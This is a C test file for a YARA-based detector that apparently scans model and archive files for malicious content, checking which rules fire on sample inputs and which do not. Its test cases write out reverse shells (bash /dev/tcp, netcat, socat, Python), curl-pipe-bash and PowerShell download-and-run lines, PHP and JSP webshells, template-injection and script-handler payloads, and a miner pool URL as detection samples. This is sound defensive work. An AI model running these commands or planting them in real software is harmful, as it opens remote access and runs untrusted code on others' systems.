/* The YARA detector: each rule on what it must see and on what it must not. */
#include "config.h"

#include "core/buffer.h"
#include "core/limits.h"
#include "detect/detector.h"
#include "tests/tap.h"

#include <stdlib.h>

static const void *compiled;
static struct sink *sink;
static struct buffer out;

/* The rules that match BYTES as a member of FORMAT, with one span of KIND and KEY over it. */
static const char *
matches(struct bytes bytes, const char *format, enum span_kind kind, const char *key)
{
	static char seen[1000];
	const char *const formats[] = { format, NULL };
	struct member member = { .path = "m", .name = "m", .bytes = bytes };
	struct span span = { .kind = kind, .key = key, .text = bytes };
	size_t n, len = 0;
	const struct finding *findings;

	sink_reset(sink);
	detector_by_name("yara")->scan(
	    compiled, &member, formats, &span, key == NULL ? 0 : 1, sink);
	findings = sink_findings(sink, &n);
	seen[0] = '\0';
	for (size_t i = 0; i < n && len < sizeof(seen); i++)
		len += (size_t)snprintf(
		    seen + len, sizeof(seen) - len, "%s%s", i > 0 ? " " : "", findings[i].evidence);
	return seen;
}

static const char *
source(const char *text)
{
	return matches(bytes_of_string(text), "python", SPAN_SOURCE, NULL);
}

/* ---- what rules see ----------------------------------------------------------------------- */

static void
test_scripts(void)
{
	static const struct {
		const char *text, *rules;
	} cases[] = {
		{ "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse_shell_bash" },
		{ "cat /dev/tcp.txt; bash -i", "" },
		{ "nc 192.0.2.1 4444 -e /bin/sh", "reverse_shell_netcat" },
		{ "nc -z localhost 80", "" },
		{ "s=socket.socket()\ns.connect((h,1))\nos.dup2(s.fileno(),0)",
		    "reverse_shell_python" },
		{ "s=socket.socket()\ns.connect((h,1))\ns.send(b'x')", "" },
		{ "socat TCP:192.0.2.1:4 EXEC:/bin/sh", "reverse_shell_other" },
		{ "socat - TCP:localhost:80", "" },
		{ "curl -s http://192.0.2.1/x | bash", "dropper_shell" },
		{ "curl -s http://192.0.2.1/x -o x.tgz", "" },
		{ "exec(requests.get(url).text)", "dropper_python" },
		{ "print(requests.get(url).text)", "" },
		{ "IEX (New-Object Net.WebClient).DownloadString('http://x')",
		    "dropper_powershell" },
		{ "Invoke-WebRequest http://x -OutFile y", "" },
		{ "exec(base64.b64decode('cHJpbnQoMSk='))", "encoded_python" },
		{ "model.eval(); base64.b64decode(x)", "" },
		{ "echo aWQ= | base64 -d | sh", "encoded_shell" },
		{ "echo aWQ= | base64 -d > x", "" },
		{ "stratum+tcp://pool.example.com:3333", "crypto_miner" },
		{ "stratum of the rock", "" },
		{ "<?php eval($_POST['x']); ?>", "webshell_php" },
		{ "<?php echo htmlspecialchars($_POST['x']); ?>", "" },
		{ "<% Runtime.getRuntime().exec(request.getParameter(\"c\")) %>",
		    "webshell_jsp_asp" },
		{ "<%= request.getParameter(\"c\") %>", "" },
		{ "x = '{{ cycler.__init__.__globals__ }}'", "template_injection_anywhere" },
		{ "x = '{{ cycler.next() }}'", "" },
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		eq_str(source(cases[i].text), cases[i].rules, cases[i].text);
}

static void
test_scopes(void)
{
	struct bytes code = bytes_of_string("run: os.system('id')");
	struct bytes html = bytes_of_string("<img src=x onerror=alert(1)>");
	struct bytes dunder = bytes_of_string("{{ x.__class__ }}");

	eq_str(matches(code, "json", SPAN_VALUE, NULL), "code_in_metadata", "code in a value");
	eq_str(matches(code, "python", SPAN_SOURCE, NULL), "", "code in source is no news");
	eq_str(matches(code, "gguf", SPAN_VALUE, "a"), "code_in_metadata",
	    "a value inside of a binary member");
	eq_str(matches(html, "markdown", SPAN_PROSE, NULL), "active_content",
	    "a handler in a document");
	eq_str(matches(bytes_of_string("<img src=x.png>"), "markdown", SPAN_PROSE, NULL), "",
	    "a picture in a document");
	eq_str(matches(html, "table", SPAN_VALUE, NULL), "", "a handler in a data set");
	eq_str(matches(dunder, "gguf", SPAN_VALUE, "tokenizer.chat_template"), "template_injection",
	    "an attribute walk in a chat template");
	eq_str(matches(bytes_of_string("{{ bos_token + messages[0]['content'] }}"), "gguf",
		   SPAN_VALUE, "tokenizer.chat_template"),
	    "", "an ordinary chat template");
	eq_str(matches(dunder, "markdown", SPAN_PROSE, ""), "", "the same in a document");
}

/* ---- executables -------------------------------------------------------------------------- */

/* Bytes of tensors, the same in each run. */
static void
add_noise(size_t n)
{
	uint64_t state = 88172645463325252u;

	for (size_t i = 0; i < n; i++) {
		state ^= state << 13;
		state ^= state >> 7;
		state ^= state << 17;
		buffer_add_u8(&out, (uint8_t)state);
	}
}

static void
add_pe(bool is_whole)
{
	size_t start = out.len;

	buffer_add_string(&out, "MZ");
	while (out.len < start + 0x3c)
		buffer_add_u8(&out, 0x90);
	buffer_add_u32le(&out, is_whole ? 0x80 : 0x1234);
	while (out.len < start + 0x80)
		buffer_add_u8(&out, 0);
	buffer_add(&out, bytes_of("PE\0\0\x64\x86\5\0", 8));
	buffer_add_u32le(&out, 0x5f000000);
	buffer_add_u64le(&out, 0);
	buffer_add(&out, bytes_of("\xf0\0\x22\0\x0b\2", 6));
}

static const char *
binary(void)
{
	return matches(buffer_bytes(&out), "safetensors", SPAN_VALUE, NULL);
}

static void
test_executables(void)
{
	static const char elf[] = "\x7f"
				  "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0\1\0\0";
	static const char macho[] = "\xcf\xfa\xed\xfe\x0c\0\0\1\0\0\0\0\2\0\0\0\x10\0\0\0\x50\5\0";

	add_noise(1 << 20);
	eq_str(binary(), "", "noise holds no program");
	add_pe(false);
	eq_str(binary(), "", "half of a header is none");
	add_pe(true);
	eq_str(binary(), "embedded_pe", "a PE file");
	buffer_reset(&out);
	add_noise(1000);
	buffer_add_string(&out,
	    "\x7f"
	    "ELF is a format");
	eq_str(binary(), "", "the magic alone is no ELF file");
	buffer_add(&out, bytes_of(elf, sizeof(elf)));
	eq_str(binary(), "embedded_elf", "an ELF file");
	buffer_reset(&out);
	buffer_add(&out, bytes_of(macho, 8));
	add_noise(100);
	eq_str(binary(), "", "half of a Mach-O header");
	buffer_add(&out, bytes_of(macho, sizeof(macho)));
	eq_str(binary(), "embedded_macho", "a Mach-O file");
	buffer_reset(&out);
	buffer_add_string(&out, "data: f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA");
	eq_str(binary(), "", "a short piece of base64");
	for (int i = 0; i < 20; i++)
		buffer_add_string(&out, "AAAA");
	eq_str(binary(), "encoded_executable", "an ELF file in base64");
	buffer_reset(&out);
	buffer_add(&out, bytes_of("\xe3\0\0\0\0\0\0\0\0\0\0\0\0\3\0\0\0\x40", 18));
	add_noise(64);
	eq_str(binary(), "", "marshalled code without names");
	buffer_add(&out, bytes_of("\xda\6system", 8));
	eq_str(binary(), "marshalled_code", "marshalled code that names system()");
}

static void
test_graphs(void)
{
	static const struct {
		const char *text, *rules;
	} cases[] = {
		{ "\n\1n\x12\6PyFunc", "graph_runs_code" },
		{ "\n\1n\x12\7PyFuncs", "" },
		{ "\n\1n\x12\x08ReadFile", "graph_reads_files" },
		{ "how to ReadFile", "" },
		{ "{\"class_name\": \"Lambda\"}", "keras_lambda" },
		{ "{\"class_name\": \"Dense\"}", "" },
		{ "\x7f"
		  "ELF\2\1\1",
		    "whole_elf" },
		{ "a \x7f"
		  "ELF\2\1\1",
		    "" },
		{ "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-"
		  "FILE!$H+H*",
		    "eicar_test_file" },
		{ "EICAR", "" },
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		eq_str(matches(bytes_of_string(cases[i].text), "hdf5", SPAN_VALUE, NULL),
		    cases[i].rules, "a graph");
}

/* ---- pieces that are members of their own -------------------------------------------------- */

/* Is an ELF file seen that stands at POS of an archive of 8 MiB, with a piece from 2 to 6 MiB? */
static bool
seen_at(size_t pos, enum codec codec)
{
	static const char elf[] = "\x7f"
				  "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0\1\0\0";
	static uint8_t archive[8 * MIB];
	const char *const formats[] = { "zip", NULL };
	struct member member = { .path = "m", .name = "m", .bytes = { archive, sizeof(archive) } };
	struct piece piece = { .name = "p",
		.codec = codec,
		.packed = bytes_slice(member.bytes, 2 * MIB, 4 * MIB),
		.size = 4 * MIB };
	size_t n;

	memset(archive, 0, sizeof(archive));
	memcpy(archive + pos, elf, sizeof(elf) - 1);
	sink_reset(sink);
	sink_piece(sink, &piece);
	detector_by_name("yara")->scan(compiled, &member, formats, NULL, 0, sink);
	(void)sink_findings(sink, &n);
	return n > 0;
}

static void
test_pieces(void)
{
	ok(!seen_at(4 * MIB, CODEC_NONE), "a stored piece is left to its own scan");
	ok(seen_at(4 * MIB, CODEC_DEFLATE), "a packed one is not, as it stands");
	ok(seen_at(2 * MIB - 10, CODEC_NONE), "what reaches into a piece is seen");
	ok(seen_at(6 * MIB - 10, CODEC_NONE), "what reaches out of it, too");
	ok(seen_at(7 * MIB, CODEC_NONE) && seen_at(MIB, CODEC_NONE), "so is what stands beside it");
}

/* ---- compiling ---------------------------------------------------------------------------- */

static bool
refused(const char *text, const char *why)
{
	const struct rule_kind *kind = detector_by_name("yara")->rules;
	struct rule_file file = {
		.name = "yara/x.yar", .source = "x.yar", .bytes = bytes_of_string(text)
	};
	struct status status = { 0 };
	void *made = kind->compile(&file, 1, &status);

	if (made != NULL)
		kind->free(made);
	if (made == NULL)
		printf("# %s\n", status.text);
	return made == NULL && strstr(status.text, why) != NULL;
}

static void
test_compiling(void)
{
	ok(refused("rule a { condition: }", "x.yar:1"), "a mistake is named with its line");
	ok(refused("include \"y.yar\"\nrule a { condition: true }", "x.yar"), "no includes");
	ok(refused("import \"pe\"\nrule a { condition: pe.is_pe }", "pe"),
	    "no module that parses files");
	ok(!refused("import \"math\"\nrule a { condition: math.max(1, 2) == 2 }", ""),
	    "modules that compute are fine");
}

int
main(void)
{
	char folder[1000];
	const char *folders[] = { folder };
	const char *top = getenv("top_srcdir");
	struct status status = { 0 };
	struct rules *rules;

	snprintf(folder, sizeof(folder), "%s/rules", top == NULL ? "." : top);
	rules = rules_open(folders, 1, &status);
	sink = sink_new(LIMIT_ARENA);
	out = buffer_up_to(16 * MIB);
	if (rules == NULL || sink == NULL)
		abort();
	compiled = rules_get(rules, detector_by_name("yara")->rules, &status);
	if (!ok(compiled != NULL, "the packs compile")) {
		printf("# %s\n", status.text);
		return done_testing();
	}
	test_scripts();
	test_scopes();
	test_executables();
	test_graphs();
	test_pieces();
	test_compiling();
	buffer_free(&out);
	sink_free(sink);
	rules_free(rules);
	return done_testing();
}
